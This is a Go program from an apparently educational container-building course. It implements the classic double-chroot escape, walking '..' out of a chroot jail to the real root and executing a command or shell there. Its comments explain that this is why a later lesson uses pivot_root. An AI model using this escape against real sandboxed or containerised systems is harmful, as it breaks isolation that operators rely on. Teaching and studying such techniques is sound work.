// Escape walks out of lesson 4's chroot and runs a command in the real root.
//
// chroot(2) changes where "/" is, and that a process cannot go up from "/". It
// changes nothing else: a process whose working directory lies outside its root
// can go up from there as far as it likes. Only the superuser may call chroot,
// and inside a chroot root is still the superuser. Lesson 6 uses pivot_root(2),
// after which there is nothing left to go up to.
//
//	CGO_ENABLED=0 go build -o ROOTFS/escape ./04-chroot/escape
//	go run -exec sudo ./04-chroot --rootfs ROOTFS /escape ls /
package main

import (
	"fmt"
	"os"
	"os/exec"
	"syscall"
)

func main() {
	// A second chroot replaces the first, and does not move us: from here on
	// our working directory, the old root, lies outside our root.
	dir, err := os.MkdirTemp("/", "escape-")
	must("make a directory", err)
	must("chroot to "+dir, syscall.Chroot(dir))
	must("remove the directory", os.Remove("."+dir))

	// So ".." no longer stops at the old root. At the real one it leads to itself.
	for !same(".", "..") {
		must("go up", os.Chdir(".."))
	}
	must("chroot to .", syscall.Chroot("."))

	command := os.Args[1:]
	if len(command) == 0 {
		command = []string{"/bin/sh"}
	}
	path, err := exec.LookPath(command[0])
	must("find the command", err)
	must("exec "+path, syscall.Exec(path, command, os.Environ()))
}

// same reports whether two names lead to one directory.
func same(a, b string) bool {
	x, err := os.Stat(a)
	must("stat", err)
	y, err := os.Stat(b)
	must("stat", err)
	return os.SameFile(x, y)
}

func must(doing string, err error) {
	if err != nil {
		fmt.Fprintf(os.Stderr, "escape: %s: %v\n", doing, err)
		os.Exit(1)
	}
}
